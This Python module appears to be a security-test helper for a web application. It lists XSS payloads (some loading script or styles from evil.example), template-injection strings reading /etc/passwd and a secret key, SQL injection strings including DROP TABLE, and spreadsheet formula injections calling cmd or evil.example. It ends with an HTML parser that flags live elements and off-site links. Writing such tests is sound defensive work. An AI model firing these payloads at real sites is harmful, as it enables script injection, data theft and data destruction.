"""What somebody types who means harm, and a look at a page for whatever of it came to life."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<script>alert(1)//",
    "<<script>alert(1)//<</script>",
    "<script\t>alert(1)</script>",
    "<script\n>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "\u202e<script>alert(1)</script>\u202c",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x:x onerror=alert`1`>",
    '<img/src="x"/onerror=alert(1)>',
    "<img src=`x` onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,x"/></svg>',
    "<svg><set onbegin=alert(1) attributename=x>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example><input name=q autofocus onfocus=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    "<a href=data:text/html,x>x</a>",
    "<a href=vbscript:alert(1)>x</a>",
    "<a href=//evil.example>x</a>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<div style=background:url(//evil.example)>x</div>",
    "<p onmouseover=alert(1)>x</p>",
    "<isindex onfocus=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<x onclick=alert(1) hx-get=//evil.example hx-trigger=load>x</x>",
    '" onmouseover=alert(1) x="',
    "' onmouseover=alert(1) x='",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) "',
    'x" hx-on:click="alert(1)',
)
"""Sixty and a few: each is harm as soon as a page shows it unescaped, in its text or in an attribute."""

MOLDS = (
    "{{7*7}}",
    "{% load static %}",
    "{% include 'base.html' %}",
    "{{ settings.SECRET_KEY }}",
    "{{request.session}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s%s%n%x",
    "%(name)s",
    "{0.__class__.__mro__}",
    "{self}",
    "{name!r}",
    '#eval("7*7")',
    '#read("/etc/passwd")',
    "$ sum $",
    "\\input{/etc/passwd}",
    "*_bold_*",
    "`raw`",
)
"""Text that a template, a format string or a typesetter would run."""

QUOTES = (
    "'",
    '"',
    "`",
    "\\",
    "''",
    "\\'",
    "';--",
    '";--',
    "' OR '1'='1",
    "1 OR 1=1",
    "1; DROP TABLE people_worker",
    "1' ORDER BY 99--",
    "') UNION SELECT 1,2,3--",
    "1/**/AND/**/1=1",
    "%27",
    "%2527",
    "\u02bc OR 1=1",
    "\uff07",
    "1e999",
    "-0",
    "0x41",
    "NULL",
    "[]",
    '{"$gt": ""}',
    "*",
    "%",
    "_",
    "name DESC",
    "(SELECT 1)",
    "\x1a",
)
"""Text that ends a string of SQL, or means something in it."""

FORMULAS = (
    '=HYPERLINK("http://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u200b=1+1",
    '=IMPORTXML("http://evil.example")',
    '=DDE("cmd")',
    "@A1",
)
"""Text that a spreadsheet program runs."""

ALIVE = frozenset({
    "iframe", "object", "embed", "base", "style", "frame", "frameset", "applet", "image", "marquee", "isindex",
    "audio", "video", "math", "animate", "set", "foreignobject", "use", "x",
})  # fmt: skip
"""Elements that act by themselves, and that our pages have none of."""


class Look(HTMLParser):
    """Reads a page as a browser does and notes what acts by itself or leads elsewhere."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.harm: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        """Our own pages have none of these."""
        said = {name: (value or "") for name, value in attributes}
        self.harm += [f"<{tag} {name}>" for name in said if name.startswith(("on", "hx-on")) or name == "style"]
        if tag in ALIVE or (tag == "meta" and said.get("http-equiv", "").lower() == "refresh"):
            self.harm.append(f"<{tag}>")
        if tag == "script" and not said.get("src", "").startswith("/static/"):
            self.harm.append("<script>")
        for name in ("href", "src", "action", "formaction", "data", "srcdoc", "xlink:href", "hx-get", "hx-post"):
            parts = urlsplit("".join(said.get(name, "").split()))
            if parts.netloc or parts.scheme:
                self.harm.append(f"<{tag} {name}={said[name][:40]}>")


def harm(page: str) -> list[str]:
    """What on this page came to life, or leads to another place; empty for a page that is ours alone."""
    look = Look()
    look.feed(page)
    look.close()
    return look.harm
